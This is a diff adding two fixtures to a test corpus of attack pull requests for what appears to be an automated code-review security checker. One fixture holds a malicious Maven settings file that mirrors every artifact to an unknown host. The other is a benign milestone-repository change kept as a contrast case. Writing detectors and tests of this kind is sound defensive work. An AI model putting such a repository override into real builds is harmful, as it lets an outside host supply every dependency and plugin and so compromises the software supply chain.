@@ -2439,4 +2439,43 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['build-wrapper-changed'] },
   },
+  {
+    id: 'attack-maven-settings-mirror',
+    description:
+      'A "faster CI builds" PR commits .mvn/settings.xml with a mirror of * on an unknown host and makes every mvn run use it through .mvn/maven.config: every artifact and plugin the build downloads now comes from that host (the registry swap of the npm and PyPI write-ups, in Maven\'s configuration).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7660,
+        title: 'ci: use a Maven mirror for faster builds',
+        author: 'newcomer',
+        files: [
+          { path: '.mvn/maven.config', status: 'added', head: lines('--settings=.mvn/settings.xml') },
+          {
+            path: '.mvn/settings.xml',
+            status: 'added',
+            head: lines('<settings>', '  <mirrors>', '    <mirror>', '      <id>fast</id>', '      <mirrorOf>*</mirrorOf>', '      <url>https://maven-central-cdn.dev/repo</url>', '    </mirror>', '  </mirrors>', '</settings>'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['maven-repository-override'] },
+  },
+  {
+    id: 'attack-maven-spring-milestone-repo',
+    description: 'A maintainer tries a Spring Boot milestone: pom.xml gains the Spring milestone repository beside the version bump.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 7661,
+        title: 'build: try Spring Boot 3.4.0-M1',
+        files: [
+          {
+            path: 'pom.xml',
+            base: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>com.tint</groupId>', '  <artifactId>tint-core</artifactId>', '  <version>2.3.0</version>', '  <parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.3.4</version></parent>', '</project>'),
+            head: lines('<project>', '  <modelVersion>4.0.0</modelVersion>', '  <groupId>com.tint</groupId>', '  <artifactId>tint-core</artifactId>', '  <version>2.3.0</version>', '  <parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.4.0-M1</version></parent>', '  <repositories>', '    <repository>', '      <id>spring-milestones</id>', '      <url>https://repo.spring.io/milestone</url>', '    </repository>', '  </repositories>', '</project>'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:maven-repository-override'] },
+  },
 ];
